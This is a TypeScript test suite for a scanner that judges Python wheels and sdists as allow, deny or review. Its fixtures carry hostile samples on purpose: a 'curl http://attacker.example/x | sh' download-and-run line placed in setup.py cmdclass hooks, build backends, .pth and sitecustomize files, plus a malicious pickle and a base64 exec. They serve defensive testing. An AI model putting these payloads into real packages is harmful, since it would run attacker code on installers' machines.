import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Verdict } from '../../../src/core/decision.ts';
import { scan } from '../../../src/index.ts';
import { buildTar } from '../../bypasses/containers/build/tar.ts';
import { buildZip } from '../../formats/zip/build.ts';
import { graphOf, reaches } from './build.ts';

type Tree = Readonly<Record<string, string>>;

const metadata = 'Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n';
const harm = 'import os\nos.system("curl -s http://attacker.example/x | sh")\n';
const setup = 'from setuptools import setup\nsetup(name="pkg", version="1.0")\n';

async function decisionOf(name: string, bytes: Uint8Array): Promise<Verdict> {
  const folder = mkdtempSync(join(tmpdir(), 'loadlock-released-'));
  try {
    const path = join(folder, name);
    writeFileSync(path, bytes);
    return (await scan([path])).decision;
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

function wheel(tree: Tree): Promise<Verdict> {
  const all = {
    ...tree,
    'pkg-1.0.dist-info/METADATA': metadata,
    'pkg-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n',
  };
  const parts = Object.entries(all).map(([name, data]) => ({ name, data, deflate: true }));
  return decisionOf('pkg-1.0-py3-none-any.whl', buildZip(parts));
}

function sdist(tree: Tree): Promise<Verdict> {
  const all = { 'PKG-INFO': metadata, 'pkg/__init__.py': 'x = 1\n', 'setup.py': setup, ...tree };
  const files = Object.entries(all).map(([name, data]) => ({
    name: `pkg-1.0/${name}`,
    data: Buffer.from(data),
  }));
  return decisionOf('pkg-1.0.tar.gz', gzipSync(buildTar(files)));
}

async function check(
  decide: (tree: Tree) => Promise<Verdict>,
  cases: readonly (readonly [Tree, Verdict])[],
): Promise<void> {
  for (const [tree, expected] of cases)
    assert.equal(await decide(tree), expected, JSON.stringify(tree, null, 1));
}

const execs = 'names = {}\nexec(open("pkg/version.py").read(), names)\n';

test('a computed import of a released package means none of its tests', async () => {
  const loads = 'import importlib\ndef load(name):\n    return importlib.import_module(name)\n';
  const counts =
    'import os, subprocess\ndef count():\n    return subprocess.run(["make", str(os.getpid())])\n';
  const tests = {
    'pkg/test/__init__.py': '',
    'pkg/test/test_count.py': 'from pkg.core import count\ncount()\n',
  };
  await check(wheel, [
    [{ 'pkg/__init__.py': `${loads}load(__name__ + ".core")\n`, 'pkg/core.py': counts, ...tests }, 'allow'],
    [
      { 'pkg/__init__.py': `${loads}from pkg.test import test_count\n`, 'pkg/core.py': counts, ...tests },
      'deny',
    ],
  ]);
});

test('an sdist is read as the folder that it is unpacked to', async () => {
  await check(sdist, [
    // What is executed is a file of its own, and judged by what that says.
    [{ 'setup.py': execs + setup, 'pkg/version.py': '__version__ = "1.0"\n' }, 'allow'],
    [{ 'setup.py': execs + setup, 'pkg/version.py': `__version__ = "1.0"\n${harm}` }, 'deny'],
    // Nobody runs these who installs or imports the package, until something leads there.
    [{ 'tests/test_x.py': 'import os\ndef test_it():\n    os.system("ls")\nos.mkdir("out")\n' }, 'allow'],
    [{ 'docs/conf.py': 'import os\nos.symlink("a", "../b")\n' }, 'allow'],
    [{ 'examples/serve.py': 'import socketserver\nsocketserver.TCPServer(("", 8000), None)\n' }, 'allow'],
    [{ 'tests/__init__.py': '', 'tests/data.py': harm, 'setup.py': `import tests.data\n${setup}` }, 'deny'],
    [{ 'docs/conf.py': harm, 'setup.py': `exec(open("docs/conf.py").read())\n${setup}` }, 'deny'],
    [{ 'tests/__init__.py': '', 'tests/a.py': harm, 'pkg/__init__.py': 'import tests.a\n' }, 'deny'],
    // Hooks of a build, wherever they stand.
    [
      {
        '_build/backend.py': `from setuptools.build_meta import *\n${harm}`,
        'pyproject.toml':
          '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      },
      'deny',
    ],
    // What a build makes an object of is made by the installer.
    [
      {
        '_build/backend.py':
          'from setuptools.build_meta import *\nfrom step import Step\n\ndef build_wheel(*given):\n    Step()\n',
        '_build/step.py': `class Step:\n    def __init__(self):\n        ${harm.replace('\n', '; ')}`,
        'pyproject.toml':
          '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      },
      'deny',
    ],
    [
      {
        'pkg/steps.py': `from setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        ${harm.replace('\n', '; ')}`,
        'setup.py':
          'from setuptools import setup\nfrom pkg.steps import Post\nsetup(name="pkg", version="1.0", cmdclass={"install": Post})\n',
      },
      'deny',
    ],
    [{ 'requirements-dev.txt': '-e .[test]\n' }, 'allow'],
    [{ 'requirements-dev.txt': '-e ../other\n' }, 'review'],
  ]);
});

test('what a build takes in by no name is not installed', async () => {
  const lib = (where: string): Tree => ({
    'setup.py': 'from setuptools import setup\nsetup(name="pkg")\n',
    'pyproject.toml': `[build-system]\nrequires = ["setuptools"]\n[tool.setuptools.packages.find]\n${where}\n`,
    'Lib/lib/__init__.py': 'x = 1\n',
  });
  const given = 'from setuptools import setup\nsetup(name="pkg", version="1.0", packages=["pkg"]';
  const times =
    'import os, subprocess\ndef count():\n    return subprocess.run(["make", str(os.getpid())])\ncount()\n';
  await check(sdist, [
    [{ 'setup.py': `${given})\n`, 'speed.py': times }, 'allow'],
    [{ 'setup.py': `${given})\n`, 'lab/trace.py': times }, 'allow'],
    [{ 'setup.py': `${given})\n`, '__main__.py': times }, 'allow'],
    // Named, found by their endings, or imported.
    [{ 'setup.py': `${given}, py_modules=["speed"])\n`, 'speed.py': times }, 'deny'],
    [{ 'setup.py': `${given}, py_modules=["sp" + "eed"])\n`, 'speed.py': times }, 'deny'],
    [{ 'setup.py': `import glob\n${given}, py_modules=glob.glob("*.py"))\n`, 'speed.py': times }, 'deny'],
    [{ 'setup.py': `${given})\n`, 'speed.py': times, 'pkg/__init__.py': 'import speed\n' }, 'deny'],
    [{ 'setup.py': `import speed\n${given})\n`, 'speed.py': harm }, 'deny'],
    [{ 'setup.py': `exec(open("speed.py").read())\n${given})\n`, 'speed.py': harm }, 'deny'],
    [{ 'setup.py': `${given.replace('"pkg"]', '"pkg", "lab"]')})\n`, 'lab/trace.py': times }, 'deny'],
    [{ 'setup.py': `${given}, package_dir={"pkg.x": "lab/x"})\n`, 'lab/x/trace.py': times }, 'deny'],
    [{ 'setup.py': `${given})\n`, 'lab/__init__.py': '', 'lab/trace.py': times }, 'deny'],
    // Packages are looked for in one folder.
    [{ ...lib('where = ["Lib"]'), 'Demo/trace.py': times }, 'allow'],
    [{ ...lib('where = ["Lib", "Demo"]'), 'Demo/trace.py': times }, 'deny'],
    [{ ...lib('where = ["."]'), 'Demo/trace.py': times }, 'deny'],
    [{ ...lib(''), 'Demo/trace.py': times }, 'deny'],
    [{ ...lib('namespaces = false'), 'Demo/trace.py': times }, 'allow'],
    [{ ...lib('include = ["lib*"]'), 'Demo/trace.py': times }, 'allow'],
    ...['"*"', '"D*"', '"[D]emo"', '"Demo"'].map((pattern): [Tree, Verdict] => [
      { ...lib(`include = ["lib*", ${pattern}]`), 'Demo/trace.py': times },
      'deny',
    ]),
    [{ ...lib('where = ["Lib"]'), 'Lib/other/trace.py': times }, 'deny'],
    // What lies there that cannot be read is installed as little.
    [{ 'setup.py': `${given})\n`, 'lab/broken.json': '{"a": [1,' }, 'allow'],
    [
      { 'setup.py': `${given.replace('"pkg"]', '"pkg", "lab"]')})\n`, 'lab/broken.json': '{"a": [1,' },
      'deny',
    ],
    [{ 'setup.py': `${given})\n`, 'broken.json': '{"a": [1,' }, 'deny'],
    // What setuptools finds where it is told nothing.
    [{ 'setup.py': 'from setuptools import setup\nsetup(name="pkg")\n', 'speed.py': times }, 'deny'],
    // One that the build imports is run by the build.
    [
      {
        'setup.py': `import stamp\n${given}, cmdclass=stamp.commands())\n`,
        'stamp.py':
          'import subprocess\ndef commands():\n    subprocess.run(["git", "describe", "--tags"])\n    return {}\n',
      },
      'allow',
    ],
  ]);
});

test('what is broken among the tests of a package is a note, unless the package makes something of files', async () => {
  const json = { 'tests/data/broken.json': '{"a": [1,' };
  const inside = { 'pkg/tests/__init__.py': '', 'pkg/tests/data/broken.json': '{"a": [1,' };
  const older = { 'tests/older.py': 'def old(:\n' };
  const opens = (what: string): Tree => ({
    'pkg/__init__.py': `import pickle, pathlib\n${what}`,
  });
  const stored = `x = pickle.load(open(pathlib.Path(__file__).parent / "tests" / "x", "rb"))\n`;
  // Breaks behind what it calls.
  const pickle = `cos\nsystem\n(S'touch loadlock-was-here'\ntR0~~`;
  await check(sdist, [
    [json, 'allow'],
    [inside, 'allow'],
    [older, 'review'],
    [{ 'docs/broken.json': '{"a": [1,', '.github/broken.yaml': '{[: }' }, 'allow'],
    [{ 'pkg/data/broken.json': '{"a": [1,' }, 'deny'],
    [{ 'broken.json': '{"a": [1,' }, 'deny'],
    // Something leads there.
    [{ ...older, 'tests/__init__.py': '', 'setup.py': `import tests.older\n${setup}` }, 'deny'],
    [{ ...inside, ...opens(stored) }, 'deny'],
    [{ ...inside, ...opens(`def load(path):\n    return pickle.load(open(path, "rb"))\n`) }, 'allow'],
    // A pickle runs up to where it breaks.
    [{ 'pkg/tests/data/x.pkl': pickle }, 'deny'],
    [{ 'pkg/tests/data/x.pkl': `cbuiltins\nlist\n(tR0~~` }, 'deny'],
  ]);
  await check(wheel, [
    [{ 'pkg/__init__.py': '', ...inside }, 'allow'],
    [{ 'pkg/__init__.py': '', 'docs/broken.json': '{"a": [1,' }, 'deny'],
    [{ 'pkg/__init__.py': stored, ...inside, ...opens(stored) }, 'deny'],
  ]);
});

test('what is packed among the tests of a package is installed by nobody who installs that', async () => {
  const times = 'import subprocess\nsubprocess.run(["make", "all"])\n';
  const inner = (source: string): Uint8Array =>
    buildZip([
      { name: 'x-1.dist-info/METADATA', data: metadata },
      { name: 'x/__init__.py', data: source },
    ]);
  const packed = (path: string, source: string): Promise<Verdict> =>
    decisionOf(
      'pkg-1.0-py3-none-any.whl',
      buildZip([
        { name: 'pkg-1.0.dist-info/METADATA', data: metadata },
        { name: 'pkg/__init__.py', data: 'x = 1\n' },
        { name: path, data: inner(source) },
      ]),
    );
  assert.equal(await packed('pkg/tests/x.whl', times), 'allow');
  assert.equal(await packed('pkg/data/x.whl', times), 'deny');
  assert.equal(
    await packed('pkg/tests/x.whl', 'exec(__import__("base64").b64decode("cHJpbnQoKQ=="))\n'),
    'deny',
  );
});

test('a wheel is read as what an installer lays out', async () => {
  const test = `import subprocess\nsubprocess.run(["true"])\n\ndef test_it():\n    pass\n`;
  await check(wheel, [
    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg/tests/__init__.py': '', 'pkg/tests/test_a.py': test }, 'allow'],
    [
      { 'pkg/__init__.py': 'from .tests import a\n', 'pkg/tests/__init__.py': '', 'pkg/tests/a.py': harm },
      'deny',
    ],
    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg/core.py': harm }, 'deny'],
    [
      {
        'pkg/__init__.py': 'x = 1\n',
        'pkg-1.0.data/purelib/start.pth': 'import pkg.late\n',
        'pkg/late.py': harm,
      },
      'deny',
    ],
    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg-1.0.data/purelib/sitecustomize.py': harm }, 'deny'],
    // Whoever makes an object of a library calls it himself.
    [
      {
        'pkg/__init__.py':
          'import logging.config\n\nclass Config:\n    def __init__(self, path):\n        logging.config.fileConfig(path)\n',
      },
      'allow',
    ],
    [
      { 'pkg/__init__.py': `class Client:\n    def __init__(self):\n        ${harm.replace('\n', '; ')}` },
      'review',
    ],
  ]);
});

test('a second copy of a module that is imported by name is an import; a loader of one’s own is not', async () => {
  const copy =
    'from importlib import util\nspec = util.find_spec("html.parser")\nmodule = util.module_from_spec(spec)\n';
  await check(wheel, [
    [{ 'pkg/__init__.py': `${copy}spec.loader.exec_module(module)\n` }, 'allow'],
    [
      {
        'pkg/__init__.py': `from importlib import machinery\n${copy}spec.loader = machinery.SourceFileLoader("x", "/tmp/x.py")\nspec.loader.exec_module(module)\n`,
      },
      'deny',
    ],
  ]);
});

test('a name that is given the type of an object is no program; one that is given what a call makes is', async () => {
  const loop = (text: string): string =>
    `objects = {}\nfor name in list(objects):\n    exec("${text}" % (name, name))\n`;
  const decided = await Promise.all(
    ["%s = type(objects['%s'])", "%s = __import__('%s').run()"].map((text) =>
      wheel({ 'pkg/__init__.py': loop(text) }),
    ),
  );
  assert.deepEqual(decided, ['review', 'deny']);
});

test('an archive in which two members take one place is read file by file', async () => {
  const parts = ['x = 1\n', harm].map((data) => ({ name: 'pkg/tests/a.py', data }));
  const mark = { name: 'pkg-1.0.dist-info/WHEEL', data: 'Wheel-Version: 1.0\n' };
  assert.equal(await decisionOf('pkg-1.0-py3-none-any.whl', buildZip([...parts, mark])), 'deny');
});

test('what nothing leads to is aside unless it is a module, and what a build names goes with the build', () => {
  const graph = graphOf({
    'PKG-INFO': metadata,
    'setup.py': 'import runpy\nrunpy.run_path("pkg/about.py")\n',
    'pkg/__init__.py': 'open("pkg/tests/used.sh")\n',
    'pkg/about.py': '',
    'pkg/tests/__init__.py': '',
    'pkg/tests/other.py': '',
    'pkg/tests/other.so': '',
    'pkg/tests/__pycache__/other.cpython-312.pyc': '',
    'pkg/tests/a.bin': '',
    'pkg/tests/a.sh': '',
    'pkg/tests/used.sh': '',
    'pkg/a.bin': '',
  });
  const aside = [...graph.data.aside].filter(graph.isAside).sort();
  assert.deepEqual(aside, ['pkg/tests/a.bin', 'pkg/tests/a.sh']);
  assert.deepEqual(['pkg/about.py', 'pkg/__init__.py'].map(graph.isNamedByBuild), [true, false]);
});

test('a module among the tests is no note, as a name that is put together may lead there', async () => {
  const leads = 'import importlib\nimportlib.import_module(".".join([__name__, "tests", "fast"]))\n';
  const program = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]).toString(
    'latin1',
  );
  for (const name of ['fast.so', 'fast.pyc'])
    assert.notEqual(
      await wheel({ 'pkg/__init__.py': leads, 'pkg/tests/__init__.py': '', [`pkg/tests/${name}`]: program }),
      'allow',
    );
});

test('what lies beside a package is set aside only where something says that there is one', () => {
  const files = {
    'pkg/__init__.py': '',
    'pkg/tests/test_a.py': 'def test_a(): pass\n',
    'docs/conf.py': '',
    'tools/gen.py': '',
  };
  const all = {
    'pkg/__init__.py': 'load',
    'pkg/tests/test_a.py': 'load',
    'docs/conf.py': 'load',
    'tools/gen.py': 'load',
  };
  assert.deepEqual(reaches(files), all);
  const aside = { 'pkg/tests/test_a.py': 'none', 'docs/conf.py': 'later', 'tools/gen.py': 'none' };
  assert.deepEqual(reaches({ ...files, 'PKG-INFO': metadata }), { ...all, ...aside, 'PKG-INFO': 'none' });
  // Installed, all of it lies where anything can be imported, but for the tests.
  const installed = { ...files, 'pkg-1.0.dist-info/METADATA': metadata };
  const { 'pkg-1.0.dist-info/METADATA': _, ...found } = reaches(installed);
  assert.deepEqual(found, { ...all, 'pkg/tests/test_a.py': 'none' });
  // A module that only has the name of a test is a library for tests.
  assert.equal(reaches({ 'PKG-INFO': '', 'pkg/test_support.py': 'x = 1\n' })['pkg/test_support.py'], 'load');
});

test('a wheel that holds something else than its own list says goes to a person', async () => {
  const digest = createHash('sha256').update('x = 1\n').digest('base64url');
  const rows = `pkg-1.0.dist-info/METADATA,,\npkg-1.0.dist-info/WHEEL,,\n"pkg/__init__.py",sha256=${digest},6\n`;
  const list = { 'pkg-1.0.dist-info/RECORD': `${rows}pkg-1.0.dist-info/RECORD,,\n` };
  await check(wheel, [
    [{ ...list, 'pkg/__init__.py': 'x = 1\n' }, 'allow'],
    [{ ...list, 'pkg/__init__.py': 'x = 2\n' }, 'review'],
    [{ ...list, 'pkg/__init__.py': 'x = 1\n', 'pkg/data.txt': 'more' }, 'review'],
  ]);
});
